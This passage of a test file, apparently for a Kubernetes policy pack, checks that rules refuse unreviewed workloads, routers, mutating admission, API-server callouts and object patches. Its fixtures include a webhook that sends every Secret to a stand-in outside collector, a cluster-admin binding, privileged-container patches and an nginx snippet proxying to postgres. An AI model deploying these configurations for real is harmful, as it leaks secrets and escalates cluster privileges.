        expect(imageFields({ spec: { image: 3, containers: [{ image: null }, { image: PREVIEW_UNKNOWN }] } }))
            .toEqual([{ path: "spec.containers[1].image", ref: undefined }]);
    });

    it("passes workloads the pod policies check, objects whose image fields run nothing, custom resources naming none, and components", async () => {
        expect(await messages("no-unchecked-workloads", [
            ...prodStack(),
            { type: "kubernetes:core/v1:ConfigMap", name: "cm", props: { metadata: { name: "cm", namespace: NS }, data: { image: "nginx:latest" } } },
            { type: "kubernetes:core/v1:Secret", name: "s", props: { metadata: { name: "s", namespace: NS }, stringData: { image: "nginx:latest" } } },
            { type: "kubernetes:core/v1:PodTemplate", name: "t", props: { metadata: { name: "t", namespace: NS }, template: { spec: privileged("t:1") } } },
            { type: "kubernetes:apps/v1:ControllerRevision", name: "r", props: { metadata: { name: "r", namespace: NS }, revision: 1, data: { spec: { template: { spec: privileged("r:1") } } } } },
            object("kubernetes:monitoring.coreos.com/v1:ServiceMonitor", "sm", { endpoints: [{ port: "metrics" }], selector: { matchLabels: { app: "x" } } }),
            // An image only in the object's metadata or status is not something it runs; an image field that is not a string is walked into.
            { type: "kubernetes:example.com/v1:Widget", name: "w", props: { metadata: { annotations: { image: "x:1" } }, status: { image: "y:1" }, spec: { image: { size: 3 } } } },
            { type: "kubernetes:helm.sh/v4:Chart", name: "c", props: { chart: "x", values: { image: { repository: "nginx", tag: "latest" }, sidecar: { image: "busybox" } } } },
            { type: "kubernetes:apps/v1:DeploymentPatch", name: "p", props: { spec: { template: { spec: privileged("p:1") } } } },
        ])).toEqual([]);
    });
});

describe("no-unchecked-routes", () => {
    const router = (type: string, name: string): TestResource => ({ type, name, props: { metadata: { name, namespace: NS }, spec: {} } });
    const tail = "routes traffic where no edge policy of this pack checks it (TLS, hosts, snippets, routes to datastores and monitoring); " +
        "publish through a networking.k8s.io/v1 Ingress instead.";
    it("refuses routers the edge policies do not read, of any version", async () => {
        expect(await messages("no-unchecked-routes", [
            router("kubernetes:gateway.networking.k8s.io/v1:Gateway", "gw"),
            router("kubernetes:gateway.networking.k8s.io/v1:HTTPRoute", "to-prometheus"),
            router("kubernetes:gateway.networking.k8s.io/v1alpha2:TCPRoute", "to-postgres"),
            router("kubernetes:networking.istio.io/v1beta1:VirtualService", "vs"),
            router("kubernetes:traefik.io/v1alpha1:IngressRouteTCP", "tcp"),
            router("kubernetes:projectcontour.io/v1:HTTPProxy", "proxy"),
        ])).toEqual([
            `Gateway "gw" (Gateway API) ${tail}`, `HTTPRoute "to-prometheus" (Gateway API) ${tail}`, `TCPRoute "to-postgres" (Gateway API) ${tail}`,
            `VirtualService "vs" (Istio) ${tail}`, `IngressRouteTCP "tcp" (Traefik) ${tail}`, `HTTPProxy "proxy" (Contour) ${tail}`,
        ]);
    });
    it("passes the stack's Ingress and resources of other groups", async () => {
        expect(await messages("no-unchecked-routes", [...prodStack(), router("kubernetes:gateway.networking.k8s.io/v1:GatewayClass", "class"),
            router("kubernetes:example.com/v1:HTTPRoute", "other")])).toEqual([]);
    });
});

describe("no-mutating-admission", () => {
    const webhook = (type: string, name: unknown): TestResource => ({ type, name: "hook", props: { metadata: { name }, webhooks: [{ name: "inject.example.com", rules: [] }] } });
    const tail = "rewrites objects in the API server after this pack checked them (a sidecar or an image can be added to any pod it " +
        "matches, by a server outside the program); drop it, or review it and list its metadata.name";

    it("refuses mutating webhooks and admission policies of any version, and the binding that switches a policy on", async () => {
        expect(await messages("no-mutating-admission", [
            webhook("kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration", "injector"),
            webhook("kubernetes:admissionregistration.k8s.io/v1beta1:MutatingWebhookConfiguration", UNKNOWN),
            webhook("kubernetes:admissionregistration.k8s.io/v1beta1:MutatingAdmissionPolicy", "add-sidecar"),
            webhook("kubernetes:admissionregistration.k8s.io/v1alpha1:MutatingAdmissionPolicyBinding", "add-sidecar-binding"),
        ])).toEqual([
            `MutatingWebhookConfiguration "hook" ${tail} "injector" in policy config allowedNames.`,
            `MutatingWebhookConfiguration "hook" ${tail} in policy config allowedNames.`,
            `MutatingAdmissionPolicy "hook" ${tail} "add-sidecar" in policy config allowedNames.`,
            `MutatingAdmissionPolicyBinding "hook" ${tail} "add-sidecar-binding" in policy config allowedNames.`,
        ]);
    });

    it("passes validating admission, the stack's own resources, and a reviewed name", async () => {
        expect(await messages("no-mutating-admission", [...prodStack(),
            webhook("kubernetes:admissionregistration.k8s.io/v1:ValidatingWebhookConfiguration", "check"),
            webhook("kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy", "check")])).toEqual([]);
        const reviewed = { all: "mandatory" as const, "no-mutating-admission": { allowedNames: ["injector"] } };
        expect(await messages("no-mutating-admission", [webhook("kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration", "injector")], reviewed)).toEqual([]);
    });
});

describe("no-api-server-callouts (session 41)", () => {
    const obj = (type: string, props: Record<string, unknown>): TestResource => ({ type, name: "x", props });
    const tail = (name: string) => `, a server outside the pack's sight; drop it, or review it and list its metadata.name "${name}" in policy config allowedNames.`;
    const exfil = obj("kubernetes:admissionregistration.k8s.io/v1:ValidatingWebhookConfiguration", {
        metadata: { name: "audit" },
        webhooks: [{ name: "audit.example.com", clientConfig: { url: "https://collector.example.com/review" }, rules: [{ operations: ["CREATE", "UPDATE"], apiGroups: [""], apiVersions: ["v1"], resources: ["secrets"] }], sideEffects: "None", admissionReviewVersions: ["v1"] }],
    });
    const aggregated = obj("kubernetes:apiregistration.k8s.io/v1:APIService", {
        metadata: { name: "v1beta1.metrics.k8s.io" },
        spec: { group: "metrics.k8s.io", version: "v1beta1", service: { name: "metrics", namespace: NS }, groupPriorityMinimum: 100, versionPriority: 100 },
    });
    const converting = obj("kubernetes:apiextensions.k8s.io/v1:CustomResourceDefinition", {
        metadata: { name: "widgets.example.com" },
        spec: { group: "example.com", conversion: { strategy: "Webhook", webhook: { clientConfig: { url: "https://convert.example.com" }, conversionReviewVersions: ["v1"] } } },
    });

    it("refuses a validating webhook (it receives every Secret it matches, whole), an aggregated API and a converting CRD", async () => {
        // Each passed the whole pack before: no-mutating-admission judges mutating admission only.
        expect((await runPack([...prodStack(), exfil, aggregated, converting], "prod")).filter((v) => v.resourceName === "x").map((v) => [v.policyName, v.message])).toEqual([
            ["no-api-server-callouts", `ValidatingWebhookConfiguration "x" sends every object its rules match, whole (Secrets' data included), to https://collector.example.com/review${tail("audit")}`],
            ["no-api-server-callouts", `APIService "x" hands every request of the API group metrics.k8s.io, with the caller's identity, to the Service ${NS}/metrics${tail("v1beta1.metrics.k8s.io")}`],
            ["no-api-server-callouts", `CustomResourceDefinition "x" sends every object of its kind to its conversion webhook${tail("widgets.example.com")}`],
        ]);
    });

    it("passes a local APIService, a CRD without conversion webhook, the stack itself and reviewed names", async () => {
        const local = obj("kubernetes:apiregistration.k8s.io/v1:APIService", { metadata: { name: "v1.example.com" }, spec: { group: "example.com", version: "v1", groupPriorityMinimum: 100, versionPriority: 100 } });
        const plainCrd = obj("kubernetes:apiextensions.k8s.io/v1:CustomResourceDefinition", { metadata: { name: "gadgets.example.com" }, spec: { group: "example.com", conversion: { strategy: "None" } } });
        expect(await messages("no-api-server-callouts", [...prodStack(), local, plainCrd])).toEqual([]);
        const reviewed = { all: "mandatory" as const, "no-api-server-callouts": { allowedNames: ["audit", "v1beta1.metrics.k8s.io", "widgets.example.com"] } };
        expect(await messages("no-api-server-callouts", [exfil, aggregated, converting], reviewed)).toEqual([]);
    });
});

describe("no-object-patches", () => {
    const patch = (type: string, name: string, props: Record<string, unknown>): TestResource =>
        ({ type, name, props: { metadata: { name, namespace: NS }, ...props } });
    const tail = " by server-side apply, where no policy checks the object it produces; declare the object in the program " +
        "(the pack then checks it whole), or keep the patch to metadata labels and annotations.";

    it("refuses a patch that changes an object beyond labels and annotations, whatever the kind", async () => {
        expect(await messages("no-object-patches", [
            patch("kubernetes:apps/v1:DeploymentPatch", "gateway-privileged", { spec: { template: { spec: { containers: [{ name: "api-gateway", securityContext: { privileged: true } }] } } } }),
            patch("kubernetes:core/v1:ServicePatch", "gateway-public", { spec: { type: "LoadBalancer" } }),
            patch("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBindingPatch", "wider", { roleRef: { kind: "ClusterRole", name: "cluster-admin" }, subjects: UNKNOWN }),
            patch("kubernetes:core/v1:NamespacePatch", "privileged-ns", { metadata: { name: NS, labels: { "pod-security.kubernetes.io/enforce": "privileged", team: "x" } } }),
            patch("kubernetes:core/v1:SecretPatch", "owner", { metadata: { name: "s", namespace: NS, ownerReferences: [] }, stringData: { password: "x" } }),
            patch("kubernetes:networking.k8s.io/v1:IngressPatch", "snippet", { metadata: { name: "ai-trading", namespace: NS, annotations: {
                "nginx.ingress.kubernetes.io/server-snippet": "location /x { proxy_pass http://postgres:5432; }", "nginx.ingress.kubernetes.io/ssl-redirect": "false", note: "x" } } }),
        ])).toEqual([
            `DeploymentPatch "gateway-privileged" changes spec of an existing Deployment${tail}`,
            `ServicePatch "gateway-public" changes spec of an existing Service${tail}`,
            `ClusterRoleBindingPatch "wider" changes roleRef, subjects of an existing ClusterRoleBinding${tail}`,
            `NamespacePatch "privileged-ns" changes metadata.labels["pod-security.kubernetes.io/enforce"] of an existing Namespace${tail}`,
            `SecretPatch "owner" changes stringData, metadata.ownerReferences of an existing Secret${tail}`,
            `IngressPatch "snippet" changes metadata.annotations["nginx.ingress.kubernetes.io/server-snippet"], metadata.annotations["nginx.ingress.kubernetes.io/ssl-redirect"] of an existing Ingress${tail}`,
        ]);
    });

    it("passes a patch of labels and annotations, and whole objects", async () => {
        expect(await messages("no-object-patches", [...prodStack(),
            patch("kubernetes:apps/v1:DeploymentPatch", "annotated", { metadata: { name: "api-gateway", namespace: NS, labels: { team: "x" }, annotations: { "pulumi.com/patchForce": "true", note: UNKNOWN } } }),
        ])).toEqual([]);
    });
});
